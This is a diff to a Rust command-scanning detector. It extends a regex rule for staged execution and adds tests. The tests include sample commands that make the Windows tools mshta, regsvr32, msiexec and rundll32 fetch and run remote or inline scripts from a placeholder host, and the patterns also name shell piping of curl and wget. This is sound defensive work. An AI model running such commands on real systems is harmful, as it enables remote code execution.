@@ -124,8 +124,8 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
         ),
         p(
             "CMD-STAGED-EXEC",
-            r"(?i)\|\s*(sudo\s+)?(ba|z|da)?sh\b|\|\s*(sudo\s+)?(python[0-9.]*|perl|ruby|node)\b|\biex\b|invoke-expression|\s-e(nc|ncodedcommand|c)?\s+[a-z0-9+/=]{20,}|-w(indowstyle)?\s+hidden|\bbash\s+-c\s+.*\b(curl|wget)\b",
-            "pipes data into an interpreter or hides PowerShell",
+            r"(?i)\|\s*(sudo\s+)?(ba|z|da)?sh\b|\|\s*(sudo\s+)?(python[0-9.]*|perl|ruby|node)\b|\biex\b|invoke-expression|\s-e(nc|ncodedcommand|c)?\s+[a-z0-9+/=]{20,}|-w(indowstyle)?\s+hidden|\bbash\s+-c\s+.*\b(curl|wget)\b|\bmshta(\.exe)?\s+['\x22]?(https?|javascript|vbscript):|\bregsvr32\b[^\n]*/i:\s*['\x22]?https?:|\bmsiexec\b[^\n]*/i\s*['\x22]?https?:|\brundll32\b[^\n]*javascript:",
+            "pipes data into an interpreter, hides PowerShell, or has a Windows system tool run a remote or inline script",
         ),
         p(
             "CMD-REVERSE-SHELL",
@@ -202,6 +202,32 @@ mod tests {
                 .iter()
                 .any(|p| p.rule == "MINER")
         );
+        // Windows system tools told to run a remote script; the same tools used locally are not.
+        for cmd in [
+            "mshta http://x.test/p.hta",
+            "regsvr32 /s /n /u /i:https://x.test/f.sct scrobj.dll",
+            "msiexec /q /i http://x.test/a.msi",
+            "rundll32.exe javascript:\\\"\\..\\mshtml,RunHTMLApplication\"",
+        ] {
+            assert!(
+                command_rules(cmd)
+                    .iter()
+                    .any(|p| p.rule == "CMD-STAGED-EXEC"),
+                "{cmd}"
+            );
+        }
+        for cmd in [
+            "mshta C:\\app\\help.hta",
+            "msiexec /i setup.msi /qn",
+            "regsvr32 /s my.dll",
+        ] {
+            assert!(
+                !command_rules(cmd)
+                    .iter()
+                    .any(|p| p.rule == "CMD-STAGED-EXEC"),
+                "{cmd}"
+            );
+        }
         assert!(
             command_rules("python -c 'import foo'")
                 .iter()
